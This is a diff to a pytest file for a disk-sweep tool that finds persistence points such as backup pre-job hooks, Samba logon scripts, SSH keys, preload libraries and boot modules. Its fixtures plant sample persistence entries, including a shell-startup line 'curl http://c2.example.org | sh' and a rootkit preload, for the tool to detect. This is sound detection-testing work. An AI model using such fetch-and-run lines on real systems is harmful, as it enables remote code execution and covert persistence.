@@ -39,6 +39,11 @@ def disk(tmp_path: Path) -> Path:
         "etc/modules-load.d/x.conf": "rootkit\n",
         "etc/hosts": "192.0.2.7 update.example.org\n",
         "etc/os-release": 'PRETTY_NAME="Debian 12"\n',
+        "etc/borgmatic/config.yaml": "pass: secret\nbefore_backup:\n  - /opt/wipe.sh\nkeep_daily: 7\n- password: x\n",
+        "etc/bacula/bacula-fd.conf": 'Director {\n  Password = "secret"\n}\n  ClientRunBeforeJob = "/opt/b"\n',
+        "etc/rsnapshot.conf": "#cmd_preexec\t/no\ncmd_preexec\t/opt/r\n",
+        "var/lib/samba/sysvol/clinic/scripts/night.cmd": "x",
+        "var/lib/samba/sysvol/clinic/Policies/{1}/GPT.INI": "x",
         "var/lib/dpkg/status": "Package: bash\nVersion: 5.2\n\nPackage: gone\nStatus: ok\n\nPackage: z\nVersion: 1\n",
     }
     for name, text in places.items():
@@ -61,6 +66,14 @@ def test_every_place_where_something_starts_is_read_with_its_path(disk: Path) ->
     assert found["authorized_keys"] == b"home/per son/.ssh/authorized_keys:ssh-ed25519 AAAA\n"
     assert b"home/per son/.bashrc:curl http://c2.example.org | sh\n" in found["shell_startup"]
     assert b"etc/ld.so.preload:/lib/rootkit.so\n" in found["shell_startup"]
+    assert found["backup_jobs"].splitlines() == [
+        b"etc/borgmatic/config.yaml:before_backup:",
+        b"etc/borgmatic/config.yaml:  - /opt/wipe.sh",
+        b"etc/borgmatic/config.yaml:keep_daily: 7",
+        b'etc/bacula/bacula-fd.conf:  ClientRunBeforeJob = "/opt/b"',
+        b"etc/rsnapshot.conf:cmd_preexec\t/opt/r",
+    ], "commands and rules, and no password"
+    assert found["directory"] == b"var/lib/samba/sysvol/clinic/scripts/night.cmd\n"
     assert found["boot_modules"] == b"etc/modules-load.d/x.conf:rootkit\n"
     assert found["resolver"] == b"etc/hosts:192.0.2.7 update.example.org\n"
     assert found["patch_level"] == b'PRETTY_NAME="Debian 12"\nbash 5.2\nz 1\n'
@@ -73,6 +86,14 @@ def test_a_bare_disk_has_empty_lists_and_only_what_must_exist_fails(tmp_path: Pa
     assert {name for name in found if name.startswith("failed")} == {
         *("failed accounts", "failed groups", "failed patch_level")
     }
+
+
+def test_a_directory_whose_entries_cannot_be_read_is_not_called_examined(disk: Path) -> None:
+    database = disk / "var/lib/samba/private/sam.ldb"
+    database.parent.mkdir()
+    database.write_bytes(b"no database")
+    found = run(Sweep(root=str(disk), paths=("etc",), lists=ON_DISK))
+    assert {name for name in found if name.startswith("failed")} == {"failed directory"}
 
 
 def test_a_missing_command_is_said_and_the_rest_goes_on(disk: Path) -> None:
